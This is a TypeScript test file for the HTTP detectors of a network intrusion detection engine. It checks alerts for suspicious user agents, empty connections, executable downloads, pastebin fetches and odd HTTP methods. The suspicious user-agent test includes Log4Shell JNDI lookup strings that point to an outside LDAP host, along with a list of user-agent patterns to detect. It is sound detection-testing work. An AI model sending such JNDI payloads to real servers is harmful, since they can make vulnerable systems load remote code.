import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_CONFIG } from '../../../../engine/config/config';
import {
  EmptyConnections,
  ExecutableMimeType,
  HttpTraffic,
  MultipleUserAgents,
  PastebinGet,
  SuspiciousUserAgent,
  WeirdHttpMethod,
} from '../../../../engine/detectors/http';
import type { FlowRecord } from '../../../../engine/flow';
import { conn, dns } from '../../../helpers/records';
import { runRecords } from '../flowAlerts/app/harness';
import { http, weird } from '../flowAlerts/app/records';

const T0 = 1_641_918_754;

test('suspicious user agent: one of the strings upstream knows, anywhere, any case', async () => {
  const cases: [string, string, number][] = [
    ['Log4Shell', '${jndi:ldap://xyz.xyz.com:39356/a}', 1],
    ['httpsend', 'HTTPSEND/1.0', 1],
    ['chm_msdn', 'Mozilla/4.0 chm_msdn', 1],
    ['pb anywhere (upstream matches a bare substring)', 'Dropbox/1.0', 1],
    ['tesseract', 'tesseract-ocr', 1],
    ['browser', 'Mozilla/5.0 (Windows NT 6.1) Chrome/60.0', 0],
    ['no agent', '', 0],
  ];
  for (const [name, userAgent, expected] of cases) {
    const { evidence } = await runRecords([new SuspiciousUserAgent()], [http({ ts: T0, userAgent })]);
    assert.equal(evidence.length, expected, name);
  }
  const { evidence } = await runRecords(
    [new SuspiciousUserAgent()],
    [http({ ts: T0, userAgent: '${jndi:ldap://x/a}', host: 'img.example', uri: '/a.png' })],
  );
  const e = evidence[0]!;
  assert.equal(
    e.description,
    'Suspicious user-agent: ${jndi:ldap://x/a} while connecting to img.example/a.png',
  );
  assert.deepEqual([e.evidenceType, e.threatLevel, e.confidence], ['SUSPICIOUS_USER_AGENT', 'high', 1]);
  assert.equal(e.attacker.value, '10.0.2.15');
});

test('empty connections: every 4th empty "/" request from a host to a connectivity-check site', async () => {
  const req = (i: number, p = {}) =>
    http({ ts: T0 + i, host: 'www.google.com', uri: '/', requestBodyLen: 0, uid: `Ce${i}`, ...p });
  const four = [0, 1, 2, 3].map((i) => req(i));
  const cases: [string, FlowRecord[], number][] = [
    ['four', four, 1],
    ['three', four.slice(0, 3), 0],
    ['eight', [...four, ...[4, 5, 6, 7].map((i) => req(i))], 2],
    [
      'bare and www. names count together',
      [req(0), req(1, { host: 'google.com' }), req(2), req(3, { host: 'google.com' })],
      1,
    ],
    ['a path is not empty', [req(0), req(1), req(2), req(3, { uri: '/search?q=x' })], 0],
    ['a body is not empty', [req(0), req(1), req(2), req(3, { requestBodyLen: 10 })], 0],
    ['other sites', [0, 1, 2, 3].map((i) => req(i, { host: 'example.com' })), 0],
    ['other hosts count apart', [req(0), req(1), req(2), req(3, { saddr: '10.0.2.16' })], 0],
    ['gmail', [0, 1, 2, 3].map((i) => req(i, { host: 'gmail.com' })), 1],
  ];
  for (const [name, recs, expected] of cases) {
    const { evidence } = await runRecords([new EmptyConnections()], recs);
    assert.equal(evidence.length, expected, name);
  }
  const { evidence } = await runRecords([new EmptyConnections()], four);
  const e = evidence[0]!;
  assert.equal(e.description, 'Multiple empty HTTP connections to google.com');
  assert.deepEqual([e.evidenceType, e.threatLevel, e.confidence], ['EMPTY_CONNECTIONS', 'medium', 1]);
  assert.deepEqual(e.uids, ['Ce0', 'Ce1', 'Ce2', 'Ce3']);
});

test('executable MIME type: two linked evidence, client and server, low', async () => {
  const cases: [string, string[], number][] = [
    ['PE', ['application/x-dosexec'], 2],
    ['msdownload', ['application/x-msdownload'], 2],
    ['octet-stream', ['application/octet-stream'], 2],
    ['one of several', ['text/plain', 'application/x-msdownload'], 2],
    ['text', ['text/html'], 0],
    ['none', [], 0],
  ];
  for (const [name, respMimeTypes, expected] of cases) {
    const { evidence } = await runRecords([new ExecutableMimeType()], [http({ ts: T0, respMimeTypes })]);
    assert.equal(evidence.length, expected, name);
  }
  const { evidence } = await runRecords(
    [new ExecutableMimeType()],
    [http({ ts: T0, respMimeTypes: ['application/x-msdownload'], uid: 'Cexe' })],
  );
  const [byClient, byServer] = evidence;
  assert.equal(
    byClient!.description,
    'Download of an executable with MIME type: application/x-msdownload by 10.0.2.15 from 147.32.80.7.',
  );
  assert.deepEqual([byClient!.attacker.direction, byClient!.attacker.value], ['SRC', '10.0.2.15']);
  assert.deepEqual([byServer!.attacker.direction, byServer!.attacker.value], ['DST', '147.32.80.7']);
  for (const e of evidence)
    assert.deepEqual([e.evidenceType, e.threatLevel, e.confidence], ['EXECUTABLE_MIME_TYPE', 'low', 1]);
  assert.deepEqual(byClient!.relIds, [byServer!.id]);
});

test('multiple user agents: a host changing OS family between requests', async () => {
  const win = 'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0 Safari/537.36';
  const win10 = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0';
  const android =
    'Mozilla/5.0 (Linux; Android 11; Pixel 5) AppleWebKit/537.36 Chrome/90.0 Mobile Safari/537.36';
  const mac = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Safari/605.1.15';
  const req = (i: number, userAgent: string, p = {}) => http({ ts: T0 + i, userAgent, ...p });
  const cases: [string, FlowRecord[], number][] = [
    ['Windows then Android', [req(0, win), req(1, android)], 1],
    ['Windows 7 then Windows 10', [req(0, win), req(1, win10)], 0],
    [
      'Windows then tools without an OS',
      [req(0, win), req(1, 'Wget/1.21.2'), req(2, 'Microsoft-CryptoAPI/6.1')],
      0,
    ],
    ['first agent without an OS is not remembered', [req(0, 'Wget/1.21.2'), req(1, win), req(2, android)], 1],
    ['the same change once per window', [req(0, win), req(1, android), req(2, win), req(3, android)], 1],
    ['two different changes', [req(0, win), req(1, android), req(2, mac)], 2],
    [
      'the same change again in the next window',
      [req(0, win), req(1, android), req(2, win), req(3700, android)],
      2,
    ],
    ['other hosts apart', [req(0, win), req(1, android, { saddr: '10.0.2.16' })], 0],
  ];
  for (const [name, recs, expected] of cases) {
    const { evidence } = await runRecords([new MultipleUserAgents()], recs);
    assert.equal(evidence.length, expected, name);
  }
  const { evidence } = await runRecords([new MultipleUserAgents()], [req(0, win), req(1, android)]);
  const e = evidence[0]!;
  assert.equal(e.description, `Using multiple user-agents: "${win}" then "${android}"`);
  assert.deepEqual([e.evidenceType, e.threatLevel, e.confidence], ['MULTIPLE_USER_AGENT', 'info', 1]);
});

test('pastebin GET: more than 700 bytes from a server known as pastebin', async () => {
  const get = (p = {}) =>
    http({
      ts: T0 + 1,
      daddr: '104.20.67.143',
      host: '104.20.67.143',
      responseBodyLen: 5000,
      uid: 'Cpb',
      ...p,
    });
  const resolved = dns({ ts: T0, saddr: '10.0.2.15', query: 'pastebin.com', answers: ['104.20.67.143'] });
  const cases: [string, FlowRecord[], number][] = [
    ['IP resolved from pastebin.com', [resolved, get()], 1],
    ['Host header', [get({ host: 'pastebin.com' })], 1],
    ['unknown server', [get()], 0],
    ['700 bytes exactly (upstream: more than)', [resolved, get({ responseBodyLen: 700 })], 0],
    ['POST', [resolved, get({ method: 'POST' })], 0],
  ];
  for (const [name, recs, expected] of cases) {
    const { evidence } = await runRecords([new PastebinGet()], recs);
    assert.equal(evidence.length, expected, name);
  }
  const { evidence } = await runRecords([new PastebinGet()], [resolved, get({ responseBodyLen: 1048576 })]);
  const e = evidence[0]!;
  assert.equal(e.description, 'A downloaded file from pastebin.com. Size: 1.048576 MBs');
  assert.deepEqual(
    [e.evidenceType, e.threatLevel, e.confidence, e.module],
    ['PASTEBIN_DOWNLOAD', 'info', 1, 'http_analyzer'],
  );
  const strict = {
    ...DEFAULT_CONFIG,
    flowAlerts: { ...DEFAULT_CONFIG.flowAlerts, pastebinDownloadThreshold: 2_000_000 },
  };
  assert.equal(
    (await runRecords([new PastebinGet()], [resolved, get({ responseBodyLen: 1048576 })], strict)).evidence
      .length,
    0,
  );
});

test('weird HTTP method: Zeek unknown_HTTP_method, named with the parties of its conn', async () => {
  const w = (ts: number, p = {}) => weird({ ts, uid: 'Cweird', addl: 'FOO', ...p });
  const c = (ts: number, uid = 'Cweird') =>
    conn({ ts, uid, saddr: '10.0.2.15', daddr: '147.32.80.7', dport: 80, state: 'SF' });
  const tick = (ts: number) => conn({ ts, saddr: '10.0.2.99', daddr: '1.1.1.1' });
  const cases: [string, FlowRecord[], number][] = [
    ['conn first', [c(T0), w(T0 + 1)], 1],
    ['conn after, within 15 s', [w(T0), c(T0 + 10)], 1],
    ['conn after 15 s', [w(T0), tick(T0 + 16), c(T0 + 17)], 0],
    ['no conn', [w(T0)], 0],
    ['another weird', [c(T0), w(T0 + 1, { name: 'bad_HTTP_request' })], 0],
  ];
  for (const [name, recs, expected] of cases) {
    const { evidence } = await runRecords([new WeirdHttpMethod()], recs);
    assert.equal(evidence.length, expected, name);
  }
  const { evidence } = await runRecords([new WeirdHttpMethod()], [w(T0), c(T0 + 1)]);
  const e = evidence[0]!;
  assert.equal(e.description, 'Weird HTTP method FOO to IP: 147.32.80.7. by Zeek.');
  assert.deepEqual([e.evidenceType, e.threatLevel, e.confidence], ['WEIRD_HTTP_METHOD', 'medium', 0.9]);
  assert.deepEqual([e.attacker.value, e.victim?.value, e.timestamp], ['10.0.2.15', '147.32.80.7', T0]);
});

test('HTTP traffic: every request, info', async () => {
  const { evidence } = await runRecords(
    [new HttpTraffic()],
    [http({ ts: T0, uid: 'Ch1' }), http({ ts: T0 + 1, uid: 'Ch2' })],
  );
  assert.equal(evidence.length, 2);
  assert.equal(evidence[0]!.description, 'Unencrypted HTTP traffic from 10.0.2.15 to 147.32.80.7.');
  assert.deepEqual(
    [evidence[0]!.evidenceType, evidence[0]!.threatLevel, evidence[0]!.confidence],
    ['HTTP_TRAFFIC', 'info', 1],
  );
});
